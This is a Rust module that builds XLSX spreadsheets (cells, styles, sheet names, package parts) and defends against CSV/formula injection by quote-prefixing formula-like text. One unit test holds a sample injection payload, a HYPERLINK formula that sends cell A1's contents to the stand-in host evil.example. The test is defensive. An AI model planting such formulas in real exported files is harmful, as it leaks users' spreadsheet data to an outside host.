//! Spreadsheets as XLSX (Office Open XML SpreadsheetML, ECMA-376 part 1 §18): a workbook of named sheets,
//! each a heading row (bold, frozen) and rows of typed cells: text, number or date (a day number shown as
//! JJ/MM/AAAA, so that spreadsheets sort and filter it as a date). Written on the stored ZIP of the DOCX,
//! with inline strings (no shared-string table) and column widths from the content.

use crate::zip::archive;
use passerelle_domain::text::formula_like;
use time::Date;
use time::macros::date;

/// One cell's value.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    Date(Date),
    Empty,
}

impl Cell {
    pub fn text(s: impl Into<String>) -> Self {
        Self::Text(s.into())
    }

    /// A date cell, or an empty one.
    pub fn date(d: Option<Date>) -> Self {
        d.map_or(Self::Empty, Self::Date)
    }

    /// The value as plain text (dates as AAAA-MM-JJ), for a CSV of the same rows.
    pub fn plain(&self) -> String {
        match self {
            Self::Text(t) => t.clone(),
            Self::Number(n) => n.to_string(),
            Self::Date(d) => d.to_string(),
            Self::Empty => String::new(),
        }
    }
}

/// A named sheet: its headings, then its rows.
#[derive(Debug, Clone, PartialEq)]
pub struct Sheet {
    pub name: String,
    pub headings: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

impl Sheet {
    pub fn new(name: &str, headings: &[&str]) -> Self {
        Self {
            name: name.to_owned(),
            headings: headings.iter().map(|h| (*h).to_owned()).collect(),
            rows: Vec::new(),
        }
    }

    pub fn row(&mut self, cells: Vec<Cell>) {
        self.rows.push(cells);
    }
}

/// Spreadsheets count days from 30 December 1899 (ECMA-376 §18.17.4.1, 1900 date system).
const EPOCH: Date = date!(1899 - 12 - 30);

/// Style indexes of `styles.xml`'s cell formats.
const BOLD: u8 = 1;
const DAY: u8 = 2;
/// Text with the « quote prefix »: shown as typed, never read as a formula (`text::formula_like`).
const QUOTED: u8 = 3;

/// The column letters of a 0-based index: A, ..., Z, AA, AB, ...
fn column(mut index: usize) -> String {
    let mut letters = Vec::new();
    loop {
        letters.push(b'A' + (index % 26) as u8);
        if index < 26 {
            break;
        }
        index = index / 26 - 1;
    }
    letters.iter().rev().map(|b| *b as char).collect()
}

/// Text made safe for XML: markup escaped, and the control characters XML 1.0 forbids dropped.
fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\t' | '\n' | '\r' => out.push(c),
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    out
}

/// Sheet names: at most 31 characters, none of `[ ] : * ? / \`, not empty, unique in the workbook
/// (ECMA-376 §18.2.19; Excel refuses the file otherwise). A name that breaks these rules is mended.
fn sheet_names(sheets: &[Sheet]) -> Vec<String> {
    let mut names: Vec<String> = Vec::new();
    for (i, s) in sheets.iter().enumerate() {
        let clean: String = s
            .name
            .chars()
            .map(|c| if "[]:*?/\\".contains(c) { '-' } else { c })
            .take(28)
            .collect();
        let clean = clean.trim().trim_matches('\'').to_owned();
        let mut name = if clean.is_empty() {
            format!("Feuille {}", i + 1)
        } else {
            clean
        };
        if names.iter().any(|n| n.to_lowercase() == name.to_lowercase()) {
            name = format!("{name} {}", i + 1);
        }
        names.push(name);
    }
    names
}

fn cell_xml(reference: &str, cell: &Cell, style: Option<u8>) -> String {
    let style = match cell {
        Cell::Text(t) if style.is_none() && formula_like(t) => Some(QUOTED),
        _ => style,
    };
    let s = style.map(|s| format!(" s=\"{s}\"")).unwrap_or_default();
    match cell {
        Cell::Text(t) => format!(
            "<c r=\"{reference}\" t=\"inlineStr\"{s}><is><t xml:space=\"preserve\">{}</t></is></c>",
            escape(t)
        ),
        Cell::Number(n) if n.is_finite() => format!("<c r=\"{reference}\"{s}><v>{n}</v></c>"),
        Cell::Number(_) | Cell::Empty => String::new(),
        Cell::Date(d) => format!(
            "<c r=\"{reference}\" s=\"{DAY}\"><v>{}</v></c>",
            (*d - EPOCH).whole_days()
        ),
    }
}

/// Width of a column in characters: its longest value, within reason.
fn widths(sheet: &Sheet) -> Vec<usize> {
    let count = sheet
        .rows
        .iter()
        .map(Vec::len)
        .chain([sheet.headings.len()])
        .max()
        .unwrap_or(0);
    (0..count)
        .map(|i| {
            let heading = sheet.headings.get(i).map_or(0, |h| h.chars().count());
            let longest = sheet
                .rows
                .iter()
                .filter_map(|r| r.get(i))
                .map(|c| match c {
                    Cell::Date(_) => 10,
                    c => c.plain().chars().count(),
                })
                .max()
                .unwrap_or(0);
            heading.max(longest).clamp(8, 60) + 2
        })
        .collect()
}

fn worksheet(sheet: &Sheet) -> String {
    let mut out = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
         <worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
         <sheetViews><sheetView workbookViewId=\"0\"><pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/></sheetView></sheetViews>",
    );
    let widths = widths(sheet);
    if !widths.is_empty() {
        out.push_str("<cols>");
        for (i, w) in widths.iter().enumerate() {
            out.push_str(&format!(
                "<col min=\"{0}\" max=\"{0}\" width=\"{w}\" customWidth=\"1\"/>",
                i + 1
            ));
        }
        out.push_str("</cols>");
    }
    out.push_str("<sheetData>");
    let headings: Vec<Cell> = sheet.headings.iter().map(|h| Cell::text(h.clone())).collect();
    for (r, (cells, style)) in std::iter::once((&headings, Some(BOLD)))
        .chain(sheet.rows.iter().map(|row| (row, None)))
        .enumerate()
    {
        out.push_str(&format!("<row r=\"{}\">", r + 1));
        for (c, cell) in cells.iter().enumerate() {
            out.push_str(&cell_xml(&format!("{}{}", column(c), r + 1), cell, style));
        }
        out.push_str("</row>");
    }
    out.push_str("</sheetData></worksheet>");
    out
}

const STYLES: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
<styleSheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
<numFmts count=\"1\"><numFmt numFmtId=\"164\" formatCode=\"dd/mm/yyyy\"/></numFmts>\
<fonts count=\"2\"><font><sz val=\"11\"/><name val=\"Calibri\"/></font><font><b/><sz val=\"11\"/><name val=\"Calibri\"/></font></fonts>\
<fills count=\"2\"><fill><patternFill patternType=\"none\"/></fill><fill><patternFill patternType=\"gray125\"/></fill></fills>\
<borders count=\"1\"><border><left/><right/><top/><bottom/><diagonal/></border></borders>\
<cellStyleXfs count=\"1\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\"/></cellStyleXfs>\
<cellXfs count=\"4\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\"/>\
<xf numFmtId=\"0\" fontId=\"1\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyFont=\"1\"/>\
<xf numFmtId=\"164\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyNumberFormat=\"1\"/>\
<xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" quotePrefix=\"1\"/></cellXfs>\
<cellStyles count=\"1\"><cellStyle name=\"Normal\" xfId=\"0\" builtinId=\"0\"/></cellStyles>\
</styleSheet>";

const PACKAGE_RELS: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/>\
</Relationships>";

/// The workbook of `sheets`, in their order.
pub fn workbook(sheets: &[Sheet]) -> Vec<u8> {
    let names = sheet_names(sheets);
    let mut types = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
         <Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
         <Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>\
         <Override PartName=\"/xl/styles.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml\"/>",
    );
    let mut book = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
         <workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
         xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>",
    );
    let mut rels = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
         <Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">",
    );
    let mut parts: Vec<(String, Vec<u8>)> = Vec::new();
    for (i, (sheet, name)) in sheets.iter().zip(&names).enumerate() {
        let n = i + 1;
        types.push_str(&format!(
            "<Override PartName=\"/xl/worksheets/sheet{n}.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
        ));
        book.push_str(&format!(
            "<sheet name=\"{}\" sheetId=\"{n}\" r:id=\"rId{n}\"/>",
            escape(name)
        ));
        rels.push_str(&format!(
            "<Relationship Id=\"rId{n}\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet{n}.xml\"/>"
        ));
        parts.push((format!("xl/worksheets/sheet{n}.xml"), worksheet(sheet).into_bytes()));
    }
    types.push_str("</Types>");
    book.push_str("</sheets></workbook>");
    rels.push_str(&format!(
        "<Relationship Id=\"rId{}\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/></Relationships>",
        sheets.len() + 1
    ));
    let mut files: Vec<(&str, Vec<u8>)> = vec![
        ("[Content_Types].xml", types.into_bytes()),
        ("_rels/.rels", PACKAGE_RELS.as_bytes().to_vec()),
        ("xl/workbook.xml", book.into_bytes()),
        ("xl/_rels/workbook.xml.rels", rels.into_bytes()),
        ("xl/styles.xml", STYLES.as_bytes().to_vec()),
    ];
    files.extend(parts.iter().map(|(name, data)| (name.as_str(), data.clone())));
    archive(&files)
}

/// The media type of an XLSX file.
pub const CONTENT_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

#[cfg(test)]
mod tests {
    use super::*;

    /// Finding 7 of « Integrity and privacy »: a text a spreadsheet would read as a formula gets the quote
    /// prefix style; other texts and numbers keep theirs.
    #[test]
    fn formula_like_text_is_quoted() {
        let formula = Cell::text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")");
        assert!(cell_xml("A2", &formula, None).starts_with("<c r=\"A2\" t=\"inlineStr\" s=\"3\">"));
        assert!(!cell_xml("A2", &Cell::text("Agent"), None).contains(" s="));
        assert!(!cell_xml("A2", &Cell::Number(-2.0), None).contains(" s="));
        assert!(STYLES.contains("quotePrefix=\"1\"/></cellXfs>"));
    }

    #[test]
    fn columns_are_lettered_like_a_spreadsheet() {
        for (index, letters) in [(0, "A"), (25, "Z"), (26, "AA"), (27, "AB"), (701, "ZZ"), (702, "AAA")] {
            assert_eq!(column(index), letters);
        }
    }

    // ECMA-376 §18.17.4.1: 1 January 1900 is day 1 (with the 1900 leap-year bug, from March 1900 on the
    // count matches this epoch); 1 January 2026 is day 46023.
    #[test]
    fn dates_are_day_numbers() {
        assert_eq!(
            cell_xml("A2", &Cell::Date(date!(2026 - 01 - 01)), None),
            "<c r=\"A2\" s=\"2\"><v>46023</v></c>"
        );
        assert_eq!(cell_xml("B2", &Cell::Number(f64::NAN), None), "");
        assert_eq!(
            cell_xml("C2", &Cell::text("a < b\u{7}"), None),
            "<c r=\"C2\" t=\"inlineStr\"><is><t xml:space=\"preserve\">a &lt; b</t></is></c>"
        );
    }

    #[test]
    fn sheet_names_are_mended() {
        let sheets = [
            Sheet::new("Conventions", &[]),
            Sheet::new("conventions", &[]),
            Sheet::new("a/b:c", &[]),
            Sheet::new("  ", &[]),
            Sheet::new(&"x".repeat(40), &[]),
        ];
        let names = sheet_names(&sheets);
        assert_eq!(names[..4], ["Conventions", "conventions 2", "a-b-c", "Feuille 4"]);
        assert!(names[4].chars().count() <= 31);
    }
}
